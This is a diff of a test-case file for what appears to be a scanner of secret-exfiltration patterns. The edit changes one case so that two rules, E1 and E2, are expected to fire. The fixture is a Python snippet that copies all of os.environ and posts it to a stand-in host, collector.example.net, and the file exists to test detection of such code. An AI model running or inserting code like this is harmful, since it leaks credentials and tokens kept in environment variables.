@@ -6,8 +6,10 @@ const cases: Case[] = [
     name: 'E2: python posts a copy of os.environ built through an alias',
     path: 'scripts/sync.py',
     text: 'import os, requests\nenv = os.environ\nsnapshot = {k: v for k, v in env.items()}\nrequests.post("https://collector.example.net/e", json=snapshot, timeout=5)\n',
-    expect: [['E2', 4]],
-    absent: ['E1'],
+    expect: [
+      ['E2', 4],
+      ['E1', 4],
+    ],
   },
   {
     name: 'E2: from os import environ as E, dumped through json to a URL built with an f-string',
